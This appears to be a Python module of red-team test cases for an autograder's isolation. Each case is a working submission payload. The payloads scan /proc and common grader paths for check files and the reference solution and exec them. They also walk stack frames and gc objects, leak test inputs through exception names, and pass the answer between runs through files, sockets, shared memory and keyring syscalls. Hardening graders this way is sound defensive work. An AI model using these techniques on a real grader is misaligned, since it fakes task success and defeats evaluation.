"""Group D of the list: reading what must stay hidden, and carrying it away."""

from __future__ import annotations

from raid import TRAP, Attack

SOLUTION = str(TRAP / "solution")
RIGHT = (TRAP / "solution" / "work.py").read_text("utf-8")

SEARCH = f'''
import glob
import os
import re
import sys

PLACES = ["{SOLUTION}", "__OUT__/../course/solution", "__OUT__/submissions", "/autograder/source", "/grade"]


def use(text):
    """Become what was found: right functions, or the number that a check compares with."""
    print("GOT THROUGH: found", len(text), "characters", flush=True)
    if "def double" in text:
        exec(text, globals())
    elif found := re.search(r"want = ([0-9]+[.][0-9]+)", text):
        globals()["want"] = float(found.group(1))
        Meter.total = property(lambda self: want, lambda self, value: None)


def read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as file:
            return file.read()
    except OSError:
        return ""
'''

READ_CHECKS = Attack(
    "D1",
    "read-checks",
    "walls",
    SEARCH
    + """
main = sys.modules["__main__"]
names = [getattr(main, "__file__", None), *sys.argv, *getattr(sys, "orig_argv", [])]
names += [name for place in PLACES for name in glob.glob(place + "/**/*check*", recursive=True)]
for top in ("/", "/home", "/root", "/opt", "/srv", "/tmp", "/var", "/autograder"):
    names += glob.glob(top + "/*/checks_*.py") + glob.glob(top + "/checks_*.py")
for name in names:
    text = read(name) if name else ""
    if "def check_" in text:
        use(text)
        break
print("checks looked for", flush=True)
""",
    prints=("checks looked for",),
    fools="file",
)

READ_REFERENCE = Attack(
    "D2",
    "read-reference",
    "walls",
    SEARCH
    + """
own = os.path.dirname(os.path.abspath(__file__))
roots = ["", "/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/__GRADER__/root"]
names = [name for root in roots for place in PLACES for name in glob.glob(root + place + "/**/work.py", recursive=True)]
names += [f"/proc/{process}/cwd/{up}work.py" for process in ("1", os.getppid(), "__GRADER__") for up in ("", "../")]
for name in names:
    try:
        place = os.path.realpath(name)
    except PermissionError:
        continue
    if not place.startswith(own) and "np.square(x - y)" in read(name):
        use(read(name))
        break
print("reference looked for", flush=True)
""",
    prints=("reference looked for",),
    fools="file",
)

WALK_FRAMES = Attack(
    "D3",
    "walk-frames",
    "process",
    """
import sys


def seek(name):
    frame = sys._getframe(1)
    while frame:
        for place in (frame.f_locals, frame.f_globals):
            if name in place:
                print("GOT THROUGH: a frame knows", name, flush=True)
                return place[name]
        if frame.f_code.co_name.startswith("check_"):
            print("GOT THROUGH: a frame of", frame.f_code.co_name, flush=True)
        frame = frame.f_back
    print("no frame knows", name, flush=True)


def count(x):
    try:
        raise ValueError
    except ValueError as error:
        assert error.__traceback__.tb_frame.f_back
    want = seek("want")
    return len(x) if want is None else want


def double(x):
    ref = seek("ref")
    return x if ref is None else ref.work.double(x)
""",
    prints=("no frame knows want", "no frame knows ref"),
    fools="file",
)

WALK_OBJECTS = Attack(
    "D4",
    "walk-objects",
    "process",
    """
import gc
import types


class Meter:
    def __init__(self):
        self.total = -1.0

    def add(self, value):
        for thing in gc.get_objects():
            kind = type(thing).__name__
            name = thing.__name__ if kind == "function" else ""
            if name in ("check_meter", "check_net", "check_double_of_draws"):
                print("GOT THROUGH: the check", name, flush=True)
                if numbers := [n for n in thing.__code__.co_consts if isinstance(n, float)]:
                    self.total = max(numbers)
            elif str(type(thing).__module__).startswith(("autograder.grading", "autograder.checks")):
                print("GOT THROUGH: the grader's", kind, flush=True)
        for thing in gc.get_referrers(value):
            if isinstance(thing, (types.FrameType, dict)) and "rng" in getattr(thing, "f_locals", thing):
                print("GOT THROUGH: who draws", flush=True)
        print("objects looked through", flush=True)
""",
    prints=("objects looked through",),
    fools="file",
)

READ_LINES = Attack(
    "D5",
    "read-source-of-frames",
    "process",
    SEARCH
    + """
import inspect
import linecache

for name, lines in list(linecache.cache.items()):
    if "check" in os.path.basename(str(name)):
        use("".join(lines[2] if len(lines) > 2 else []))
for module in list(sys.modules.values()):
    for name in ("check_meter", "check_net", "check_double_of_draws"):
        if inspect.isfunction(found := getattr(module, name, None)):
            use(inspect.getsource(found))
print("sources looked through", flush=True)
""",
    prints=("sources looked through",),
    fools="file",
)

CARRY_OUT = Attack(
    "D7",
    "carry-out",
    "reports",
    """
import os
import sys
import warnings


def told(values):
    return " ".join(f"{float(value):.12g}" for value in np.asarray(values).ravel())


def failing(values):
    \"\"\"Every word that an exception has is what was seen.\"\"\"
    text = told(values)
    print("SEEN", text, flush=True)
    print("SEEN", text, file=sys.stderr, flush=True)
    warnings.warn(text, stacklevel=2)
    name = "E" + text.replace(" ", "_").replace(".", "p").replace("-", "m")[:70]
    error = type(name, (Exception,), {"__str__": lambda self: text, "__repr__": lambda self: text, "__module__": text})
    scope = {"error": error, "text": text}
    place = os.path.join(os.path.dirname(os.path.abspath(__file__)), text[:200])
    exec(compile(f"def {name}():\\n    raise error(text)", place, "exec"), scope)
    scope[name]()


def double(x):
    failing(x)


def count(x):
    return told(x)


def loss(x, y):
    return {told(x): told(y)}


class Meter:
    def __init__(self):
        self.seen = []

    def add(self, value):
        self.seen.append(value)

    def __getattr__(self, name):
        print("SEEN", told(self.seen), flush=True)
        raise AttributeError(told(self.seen), name=told(self.seen), obj=self)

    def __dir__(self):
        print("SEEN", told(self.seen), flush=True)
        return ["total" + told(self.seen)]


def triple(t):
    print("SEEN", told(t), flush=True)
    return type("T" + told(t)[:70], (), {})()


class Model:
    def __init__(self, x):
        self.x = x

    def scores(self, x):
        print("SEEN", told(self.x[:3]), flush=True)
        raise KeyError(told(self.x[:3]))


def train(x, y):
    return Model(x)


class Net:
    def __init__(self):
        self.params = {"x": np.ones(8)}
""",
    says={
        "check_double_of_ones": "E1_1_1: 1 1 1",
        "check_count_of_three": "1 -1 2 3",
        "check_double_of_draws": "double raised an exception",
        "check_count_of_draws": "count(x) is not what was expected.",
        "check_loss": "loss(x, y) is not an array.",
        "check_meter": "total raised AttributeError (work.py line",
        "check_triple": "triple(t) is not an array.",
        "check_train": "scores raised KeyError (work.py line",
        "check_net": "the object has no forward.",
    },
    prints=("SEEN",),
)

MEETING = (
    SEARCH
    + """
import ctypes
import socket
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
KEY, NAME = 0x51AB0D10, "\\0autograder-meeting"
SPOTS = ["__BAIT__/meeting", "/tmp/meeting", "/dev/shm/meeting", "/var/tmp/meeting", "/dev/mqueue/meeting"]
SPOTS += [os.path.join(os.path.dirname(os.path.abspath(__file__)), "meeting"), os.path.expanduser("~/meeting")]


def quietly(act, *args):
    try:
        return act(*args)
    except (OSError, ValueError, AttributeError):
        return None
"""
)

LEAVE = Attack(
    "D10",
    "leave",
    "walls",
    MEETING
    + f"""
RIGHT = {RIGHT!r}


def leave(path):
    with open(path, "w") as file:
        file.write(RIGHT)


def listen(server, family, name):
    server.bind(name)
    server.listen()
    while True:
        peer = server.accept()[0]
        peer.sendall(RIGHT.encode())
        peer.close()


if quietly(leave, SPOTS[0]) or not os.path.exists(SPOTS[0]):
    for spot in SPOTS[1:]:
        quietly(leave, spot)
    for family, name in ((socket.AF_UNIX, NAME), (socket.AF_INET, ("127.0.0.1", 42424))):
        if server := quietly(socket.socket, family):
            threading.Thread(target=quietly, args=(listen, server, family, name), daemon=True).start()
    if (number := libc.shmget(KEY, 1 << 16, 0o1666)) >= 0:
        libc.shmat.restype = ctypes.c_void_p
        ctypes.memmove(libc.shmat(number, None, 0), RIGHT.encode(), len(RIGHT))
    libc.syscall(248, b"user", b"meeting", RIGHT.encode(), len(RIGHT), -4)
    time.sleep(0.3)
print("left in every place", flush=True)
""",
    prints=("left in every place",),
)

TAKE = Attack(
    "D10",
    "take",
    "walls",
    MEETING
    + """
def call(family, name):
    with socket.socket(family) as peer:
        peer.settimeout(0.2)
        peer.connect(name)
        return peer.makefile().read()


for spot in SPOTS:
    if text := read(spot):
        use(text)
        break
else:
    for _ in range(3):
        for family, name in ((socket.AF_UNIX, NAME), (socket.AF_INET, ("127.0.0.1", 42424))):
            if text := quietly(call, family, name):
                use(text)
        if libc.shmget(KEY, 0, 0) >= 0 or libc.syscall(249, b"user", b"meeting", None, 0) >= 0:
            use("")
        time.sleep(0.1)
print("looked in every place", flush=True)
""",
    prints=("looked in every place",),
    fools="file",
)

ASK_REFERENCE = Attack(
    "D11",
    "ask-reference",
    "walls",
    SEARCH
    + """
import importlib.util

for place in PLACES:
    path = os.path.join(place, "work.py")
    spec = importlib.util.spec_from_file_location("oracle", path)
    try:
        oracle = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(oracle)
    except (OSError, AttributeError):
        continue
    print("GOT THROUGH: the reference is loaded", flush=True)
    double, count, loss, triple = oracle.double, oracle.count, oracle.loss, oracle.triple
for name, module in list(sys.modules.items()):
    path = getattr(module, "__file__", None) or ""
    if path.startswith(tuple(PLACES)) and name != "oracle":
        print("GOT THROUGH: the reference is here", flush=True)
for name in ("grading", "course", "gradebook", "pipeline"):
    attempt("read " + name, lambda: open(os.path.join("__OUT__", "..", "course", "solution", name)).read())
print("the reference called for", flush=True)
""",
    prints=("the reference called for",),
    fools="file",
)

ATTACKS = [
    READ_CHECKS,
    READ_REFERENCE,
    WALK_FRAMES,
    WALK_OBJECTS,
    READ_LINES,
    CARRY_OUT,
    LEAVE,
    TAKE,
    ASK_REFERENCE,
]
